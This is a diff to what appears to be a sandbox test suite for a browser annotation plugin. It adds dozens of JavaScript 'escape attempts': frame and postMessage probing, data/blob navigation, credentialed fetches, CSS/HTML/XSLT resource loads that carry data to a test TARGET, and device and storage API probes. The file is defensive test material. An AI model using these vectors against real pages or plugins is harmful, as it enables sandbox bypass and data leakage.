@@ -107,6 +107,46 @@ export const PAGE_ATTEMPTS: readonly EscapeAttempt[] = [
     code: "self.name = 'Htx'; return top.frames.Htx === self && top.Htx === self",
   },
   {
+    what: 'find a way to peers in a frame of its own',
+    code: `const frame = document.body.appendChild(
+        document.createElement('iframe'));
+      return new frame.contentWindow.RTCPeerConnection()`,
+  },
+  {
+    what: 'take back what was taken from it',
+    code: `delete self.RTCPeerConnection;
+      Object.defineProperty(self, 'RTCPeerConnection', {value: 1});
+      return true`,
+  },
+  {
+    what: 'find its runtime in its document',
+    code: `return [...document.scripts].some(({text}) => text.length > 1000)`,
+  },
+  {
+    what: 'hear another plugin through the page',
+    code: `return await new Promise((resolve, reject) => {
+      addEventListener('message', (event) => {
+        if (event.source !== self) resolve(event);
+      });
+      parent.postMessage('ls-annotation-port', '*');
+      for (let at = 0; at < top.length; at += 1) {
+        top[at].postMessage('ls-annotation-port', '*');
+        for (let inner = 0; inner < top[at].length; inner += 1) {
+          top[at][inner].postMessage(
+            'ls-annotation-port', '*', [new MessageChannel().port2]);
+        }
+      }
+      setTimeout(reject, 50);
+    })`,
+  },
+  {
+    what: 'leave an object of its own where the page looks',
+    code: `top.postMessage({type: 'ls-annotation-boot',
+        get policy() { self.lsEscaped = 1; return ''; }}, '*',
+        [new MessageChannel().port1]);
+      return parent.lsEscaped`,
+  },
+  {
     what: 'take the origin of the page',
     code: 'document.domain = "localhost"; return top.document',
   },
@@ -181,6 +221,53 @@ export const NAVIGATION_ATTEMPTS: readonly EscapeAttempt[] = [
     code: `addEventListener('beforeunload', (event) => event.preventDefault());
       top.onbeforeunload = () => 'stay'; return true`,
   },
+  {
+    what: 'open a window that does not know it',
+    code: `open('${TARGET}noopener', '_blank', 'noopener,noreferrer');
+      return false`,
+  },
+  {
+    what: 'open a window with a document of its own',
+    code: `const html = new Blob(['<p>x</p>'], {type: 'text/html'});
+      return open(URL.createObjectURL(html))`,
+  },
+  {
+    what: 'follow a link on a map to another window',
+    code: `document.body.innerHTML = '<map><area target="_top" ' +
+        'href="${TARGET}area"></map>';
+      document.querySelector('area').click(); return false`,
+  },
+  {
+    what: 'move all its links to the page',
+    code: `document.head.innerHTML += '<base target="_top">';
+      const a = document.createElement('a');
+      a.href = '${TARGET}base-top'; document.body.append(a);
+      a.click(); return false`,
+  },
+  {
+    what: 'give the page another address',
+    code: `top.history.pushState(null, '', '/escaped'); return true`,
+  },
+  {
+    what: 'give itself the address of the page',
+    code: `history.pushState(null, '', '${location.origin}/escaped');
+      return true`,
+  },
+  {
+    what: 'use the navigation of the page',
+    code: `top.navigation.navigate('${TARGET}navigation'); return true`,
+  },
+  {
+    what: 'make itself what opens addresses',
+    code: `navigator.registerProtocolHandler('web+ls', '${TARGET}%s');
+      return true`,
+  },
+  {
+    what: 'print itself',
+    code: `let asked = false;
+      addEventListener('beforeprint', () => { asked = true; });
+      print(); return asked`,
+  },
   {what: 'stop the page from loading', code: 'top.stop(); return true'},
   {what: 'print the page', code: 'top.print(); return true'},
   {what: 'go back in the history of the page', code: 'top.history.back()'},
@@ -202,6 +289,33 @@ export const LEAVING_ATTEMPTS: readonly EscapeAttempt[] = [
     code: `const a = document.createElement('a');
       a.href = '${TARGET}self-link?secret';
       document.body.append(a); a.click();`,
+  },
+  {
+    what: 'take its document to data',
+    code: `location.href = 'data:text/html,<script>top.lsEscaped=1</script>'`,
+  },
+  {
+    what: 'take its document to a blob',
+    code: `const html = new Blob(['<img src="${TARGET}blob-image">'],
+        {type: 'text/html'});
+      location.href = URL.createObjectURL(html)`,
+  },
+  {what: 'load its document again', code: 'location.reload()'},
+  {
+    what: 'open its document anew',
+    code: `document.open();
+      document.write('<img src="${TARGET}written">'); document.close();`,
+  },
+  {
+    what: 'take its document elsewhere by its navigation',
+    code: `navigation.navigate('${TARGET}self-navigation?secret')`,
+  },
+  {
+    what: 'take its document elsewhere by a drawing',
+    code: `document.body.innerHTML = '<svg><a href="${TARGET}svg-link">' +
+        '<text>x</text></a></svg>';
+      document.querySelector('svg a')
+        .dispatchEvent(new MouseEvent('click', {bubbles: true}));`,
   },
   {
     what: 'have its document refreshed',
@@ -247,6 +361,35 @@ export const STORAGE_ATTEMPTS: readonly EscapeAttempt[] = [
       ...place,
     },
   ]),
+  ...[IN_DOCUMENT, {}].flatMap((place) => [
+    {
+      what: `use a bucket of storage${'slot' in place ? '' : ' in a worker'}`,
+      code: 'return await navigator.storageBuckets.open("escaped")',
+      ...place,
+    },
+    {
+      what: `hold a lock of the page${'slot' in place ? '' : ' in a worker'}`,
+      code: 'return await navigator.locks.request("ls-escape", () => true)',
+      ...place,
+    },
+  ]),
+  {
+    what: 'use storage that sites share',
+    code: 'await sharedStorage.set("a", "b"); return true',
+    ...IN_DOCUMENT,
+  },
+  {
+    what: 'keep a cookie by the store of cookies',
+    code: 'await cookieStore.set("escaped", "1"); return true',
+    ...IN_DOCUMENT,
+  },
+  {
+    what: 'find storage in a frame of its own',
+    code: `const frame = document.body.appendChild(
+        document.createElement('iframe'));
+      return frame.contentWindow.localStorage`,
+    ...IN_DOCUMENT,
+  },
   {
     what: 'install a service worker',
     code: `return await navigator.serviceWorker.register('${TARGET}sw.js')`,
@@ -310,6 +453,46 @@ const ANYWHERE: readonly Omit<EscapeAttempt, 'slot'>[] = [
       })`,
   },
   {
+    what: 'import elsewhere in a module that is a worker',
+    code: `const code = "import '${TARGET}worker-import.js'; postMessage(1)";
+      const address = URL.createObjectURL(
+        new Blob([code], {type: 'text/javascript'}));
+      return await new Promise((resolve, reject) => {
+        const worker = new Worker(address, {type: 'module'});
+        worker.onerror = reject; worker.onmessage = resolve;
+      })`,
+  },
+  {
+    what: 'import a module by its text',
+    code: `const code = "export {x} from '${TARGET}blob-import.js'";
+      return await import(URL.createObjectURL(
+        new Blob([code], {type: 'text/javascript'})))`,
+  },
+  {
+    what: 'open a socket that is a stream',
+    code: `const socket = new WebSocketStream(
+        '${TARGET.replace('http', 'ws')}stream');
+      return await socket.opened`,
+  },
+  {
+    what: 'compile what it fetches',
+    code: `return await WebAssembly.compileStreaming(fetch('${TARGET}wasm'))`,
+  },
+  {
+    what: 'fetch with the rights of the page',
+    code: `const response = await fetch('${TARGET}credentials',
+        {mode: 'cors', credentials: 'include', redirect: 'manual'});
+      return response.type`,
+  },
+  {
+    what: 'fetch in the background',
+    code: `return await (await navigator.serviceWorker.ready)
+        .backgroundFetch.fetch('x', ['${TARGET}background'])`.replace(
+      'await (await',
+      'navigator.serviceWorker.controller && await (await',
+    ),
+  },
+  {
     what: 'connect to a peer',
     code: 'return new RTCPeerConnection()',
   },
@@ -347,6 +530,118 @@ const BY_ELEMENTS = [
       'border-image-source',
     ].includes(property),
   })),
+  ...Object.entries({
+    'a picture of several': "background: image-set('$' 1x) !important",
+    'words before words': "content: url('$')",
+    'a shape': "float: left; width: 9px; height: 9px; shape-outside: url('$')",
+    'a mirror': "-webkit-box-reflect: below 0 url('$')",
+  }).map(([what, style]) => ({
+    what: `ask by the style of ${what}`,
+    act: `const style = document.createElement('style');
+      style.textContent = \`b { display: block; ${style.replaceAll('$', `${TARGET}css-of-${what.replaceAll(' ', '-')}`)} }\`;
+      document.head.append(style);
+      document.body.innerHTML = '<b>x</b>';
+      document.body.getBoundingClientRect();`,
+    isSilent: true,
+  })),
+  ...Object.entries({
+    'a source of a picture':
+      '<picture><source srcset="$"><img src="data:,"></picture>',
+    'a source of a sound': '<audio><source src="$"></audio>',
+    'a filter in a drawing':
+      '<svg><filter id="f"><feImage href="$"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
+    'a script in a drawing': '<svg><script href="$"></script></svg>',
+    'a body with a picture': '<table background="$"><td>x</table>',
+    'a set of frames': '<frameset><frame src="$"></frameset>',
+    'a fenced frame': '<fencedframe src="$"></fencedframe>',
+    'a portal': '<portal src="$"></portal>',
+    'a picture that is attributed': '<img src="data:," attributionsrc="$">',
+    'a picture for later': '<img loading="lazy" src="$">',
+    'a link to a preloaded set':
+      '<link rel="preload" as="image" imagesrcset="$ 1x">',
+    'a link to a dictionary': '<link rel="compression-dictionary" href="$">',
+    'a link to a page of the future': '<link rel="prerender" href="$">',
+    'a link to a font': '<link rel="preload" as="font" crossorigin href="$">',
+    'a link to what is fetched':
+      '<link rel="preload" as="fetch" crossorigin href="$">',
+    'a style that begins with another':
+      '<link rel="stylesheet" href="data:text/css,@import url($)">',
+    'a template that is a root':
+      '<div><template shadowrootmode="open"><img src="$"></template></div>',
+  }).map(([what, html]) => ({
+    what: `ask by ${what}`,
+    act: `document.body.setHTMLUnsafe(\`${html.replaceAll('$', `${TARGET}html-${what.replaceAll(' ', '-')}`)}\`);
+      document.body.getBoundingClientRect();
+      await new Promise((resolve) => setTimeout(resolve, 20));`,
+    isSilent: true,
+  })),
+  {
+    what: 'have what is kept from it reported elsewhere',
+    act: `const meta = document.createElement('meta');
+      meta.httpEquiv = 'Content-Security-Policy';
+      meta.content = "img-src 'none'; report-uri ${TARGET}report";
+      document.head.append(meta);
+      new Image().src = 'data:,';`,
+    isSilent: true,
+  },
+  {
+    what: 'paint by code from elsewhere',
+    act: `await CSS.paintWorklet?.addModule('${TARGET}paint.js')
+        .catch(() => {});
+      await new AudioContext().audioWorklet?.addModule('${TARGET}audio.js')
+        .catch(() => {});`,
+    isSilent: true,
+  },
+  {
+    what: 'turn a document into one from elsewhere',
+    act: `const parse = (text) =>
+        new DOMParser().parseFromString(text, 'text/xml');
+      const sheet = parse('<xsl:stylesheet version="1.0" ' +
+        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' +
+        '<xsl:import href="${TARGET}xsl-import"/><xsl:template match="/">' +
+        '<xsl:copy-of select="document(\\'${TARGET}xsl\\')"/>' +
+        '</xsl:template></xsl:stylesheet>');
+      const processor = new XSLTProcessor();
+      try { processor.importStylesheet(sheet);
+        processor.transformToFragment(parse('<x/>'), document); } catch {}`,
+    isSilent: true,
+  },
+  {
+    what: 'load resources in a bundle',
+    act: `const script = document.createElement('script');
+      script.type = 'webbundle';
+      script.textContent = JSON.stringify(
+        {source: '${TARGET}bundle', resources: ['${TARGET}bundled']});
+      document.head.append(script);`,
+    isSilent: true,
+  },
+  {
+    what: 'have a picture put in by an editor',
+    act: `document.designMode = 'on'; document.body.append('x');
+      getSelection().selectAllChildren(document.body);
+      document.execCommand('insertImage', false, '${TARGET}command');`,
+    isSilent: true,
+  },
+  {
+    what: 'show a cover of what it plays',
+    act: `navigator.mediaSession.metadata = new MediaMetadata(
+        {title: 'x', artwork: [{src: '${TARGET}artwork'}]});
+      navigator.mediaSession.playbackState = 'playing';`,
+    isSilent: true,
+  },
+  {
+    what: 'have an account looked up elsewhere',
+    act: `await navigator.credentials.get({identity: {providers:
+        [{configURL: '${TARGET}identity', clientId: 'x'}]}}).catch(() => {});`,
+    isSilent: true,
+  },
+  {
+    what: 'have a way to pay looked up elsewhere',
+    act: `try { await new PaymentRequest([{supportedMethods: '${TARGET}pay'}],
+        {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}})
+        .canMakePayment(); } catch {}`,
+    isSilent: true,
+  },
   {
     what: 'tell what stands in a field by a style',
     act: `document.body.innerHTML = '<input value="secret">';
@@ -610,6 +905,35 @@ export const UI_ATTEMPTS: readonly EscapeAttempt[] = [
     code: `top.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter'}));
       return true`,
   },
+  ...Object.entries({
+    'find Bluetooth devices':
+      'return await navigator.bluetooth.requestDevice({acceptAllDevices: true})',
+    'find input devices':
+      'return await navigator.hid.requestDevice({filters: []})',
+    'find serial ports': 'return await navigator.serial.requestPort()',
+    'find musical instruments': 'return await navigator.requestMIDIAccess()',
+    'find the fonts of the person': 'return (await queryLocalFonts()).length',
+    'find the screens of the person': 'return await getScreenDetails()',
+    'pick a colour off the screen': 'return await new EyeDropper().open()',
+    'keep keys from the page': 'await navigator.keyboard.lock(); return true',
+    'tell whether the person is there':
+      "return (await IdleDetector.requestPermission()) === 'granted'",
+    'turn the screen': "await screen.orientation.lock('portrait'); return true",
+    'show itself on another screen':
+      "return await new PresentationRequest('https://localhost:1/').start()",
+    'copy what it has selected':
+      "document.body.append('x'); getSelection().selectAllChildren(document.body); return document.execCommand('copy')",
+    'read the clipboard by a command': "return document.execCommand('paste')",
+    'feel how the device is held':
+      'return await new Promise((resolve, reject) => { const sensor = new Accelerometer(); sensor.onreading = resolve; sensor.onerror = reject; sensor.start(); })',
+    'make a passkey':
+      "return await navigator.credentials.create({publicKey: {challenge: new Uint8Array(9), rp: {name: 'x'}, user: {id: new Uint8Array(9), name: 'x', displayName: 'x'}, pubKeyCredParams: [{type: 'public-key', alg: -7}]}})",
+    'keep what it stores for ever': 'return await navigator.storage.persist()',
+    'give the page another size': 'top.resizeBy(9, 9); return true',
+    'scroll the page': 'top.scrollTo(0, 9); return true',
+    'put itself on top of the page':
+      "const own = document.body.appendChild(document.createElement('div')); own.popover = 'manual'; own.showPopover(); return innerHeight > 120",
+  }).map(([what, code]) => ({what, code})),
   {
     what: 'offer a download',
     code: `const a = document.createElement('a');
